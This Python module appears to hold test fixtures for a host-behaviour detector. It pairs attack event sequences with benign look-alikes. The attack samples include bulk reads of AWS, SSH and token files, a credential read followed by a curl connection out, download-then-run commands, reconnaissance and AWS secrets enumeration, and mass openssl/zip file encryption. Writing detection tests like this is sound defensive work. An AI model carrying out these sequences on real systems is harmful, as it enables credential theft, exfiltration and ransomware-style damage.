"""Several events in a row that are an attack together, each with ordinary ones that resemble them."""

from __future__ import annotations

from support.behaviours.acts import API, AUDIT, FILE, KERNEL, NETWORK, PROCESS, Fields, asked, connected, ran, read

Step = tuple[int, str, Fields]
"""When, in milliseconds, and what."""
ROOT = {"LineageRoot": "7@1", "Job": "8@2"}


def _sequence(category: str, events: list[Fields], every_ms: int = 100) -> list[Step]:
    return [(place * every_ms, category, {**fields, **ROOT, "ProcessId": 9}) for place, fields in enumerate(events)]


_READS = [
    read("aws", ".aws/credentials", "/home/u/x"),
    read("ssh", ".ssh/id_rsa", "/home/u/x"),
    read("docker", ".docker/config.json", "/home/u/x"),
]
_KERNEL_READS = [
    read("aws", ".aws/credentials", KERNEL, own=None),
    read("netrc", ".netrc", KERNEL, own=None),
    read("huggingface", ".cache/huggingface/token", KERNEL, own=None),
    read("wandb", ".config/wandb/settings", KERNEL, own=None),
    read("ssh", ".ssh/id_rsa", "ssh host", own=True),
]
SEQUENCES: list[tuple[str, list[Step], list[Step]]] = [
    ("bulk_credential_read", _sequence(FILE, _READS), _sequence(FILE, _KERNEL_READS)),
    (
        "credential_read_then_sent",
        [
            *_sequence(FILE, [read("aws", ".aws/credentials", "cat x")]),
            (900, NETWORK, {**connected("curl http://x", "203.0.113.9"), **ROOT}),
        ],
        [
            *_sequence(FILE, [read("aws", ".aws/credentials", "aws s3 ls", own=True)]),
            (900, NETWORK, {**connected("curl http://x", "203.0.113.9"), **ROOT}),
        ],
    ),
    (
        "code_reads_credential_then_connects",
        [
            *_sequence(FILE, [read("ssh", ".ssh/id_rsa", "python3 x.py", own=None)]),
            (900, NETWORK, {**connected("python3 x.py", "203.0.113.9", 443), "ProcessId": 9}),
        ],
        [
            *_sequence(FILE, [read("ssh", ".ssh/id_rsa", "python3 x.py", own=None)]),
            (900, NETWORK, {**connected("python3 x.py", "203.0.113.9", 22), "ProcessId": 9}),
        ],
    ),
    (
        "environ_read_in_kernel",
        _sequence(
            AUDIT,
            [{**ran(KERNEL), "AuditEvent": "open", "AuditPath": f"/proc/{pid}/environ"} for pid in range(10, 14)],
        ),
        _sequence(AUDIT, [{**ran(KERNEL), "AuditEvent": "open", "AuditPath": "/proc/self/environ"}] * 8),
    ),
    (
        "download_then_run",
        _sequence(PROCESS, [ran("curl -o /tmp/x http://x"), ran("/tmp/x 3")]),
        _sequence(PROCESS, [ran("curl -o miniconda.sh http://x"), ran("bash miniconda.sh -b")]),
    ),
    (
        "ports_scanned",
        _sequence(NETWORK, [connected("python3 x.py", "10.0.0.9", port) for port in range(1, 70)]),
        _sequence(
            NETWORK, [connected("python3 x.py", "10.0.0.9", port) for port in (*[443] * 70, *range(30000, 30070))]
        ),
    ),
    (
        "download_run_from_descriptor",
        _sequence(PROCESS, [ran("bash /dev/fd/63"), ran("curl -fsS http://x")]),
        _sequence(PROCESS, [ran("diff /dev/fd/63 /dev/fd/62"), ran("curl -fsS http://x")]),
    ),
    (
        "recon_burst",
        _sequence(PROCESS, [ran(line) for line in ("id", "whoami", "uname -a", "env")]),
        _sequence(PROCESS, [ran(line) for line in ("uname -m", "uname -s", "uname -r", "hostname", "arch", "ls")]),
    ),
    (
        "cloud_recon_burst",
        _sequence(
            PROCESS,
            [
                ran(f"aws {what}")
                for what in ("sts get-caller-identity", "iam list-users", "secretsmanager list-secrets", "s3 ls")
            ],
        ),
        _sequence(PROCESS, [ran(f"aws s3 ls s3://b/{name}") for name in "abcdef"]),
    ),
    (
        "many_files_encrypted",
        _sequence(PROCESS, [ran(f"openssl enc -aes-256-cbc -k x -in {n} -out {n}.enc") for n in range(15)]),
        _sequence(PROCESS, [ran(f"openssl dgst -sha256 {n}") for n in range(40)]),
    ),
    (
        "many_files_encrypted",
        _sequence(PROCESS, [ran(f"zip -q -m -P x {n}.zip {n}") for n in range(15)]),
        _sequence(PROCESS, [ran(f"7z x -px {n}.7z") for n in range(40)]),
    ),
    (
        "many_buckets",
        _sequence(API, [asked("s3", "ListObjectsV2", ResourceBucket=f"b{n}") for n in range(10)]),
        _sequence(API, [asked("s3", "GetObject", ResourceBucket="b")] * 50),
    ),
    (
        "many_secrets",
        _sequence(API, [asked("secretsmanager", "GetSecretValue", ResourceSecretId=f"s{n}") for n in range(5)]),
        _sequence(API, [asked("secretsmanager", "GetSecretValue", ResourceSecretId="s")] * 20),
    ),
    (
        "account_explored",
        _sequence(API, [asked("iam", name) for name in ("ListUsers", "ListRoles", "ListPolicies", "GetPolicy")]),
        _sequence(API, [asked("iam", "GetRole")] * 10),
    ),
]
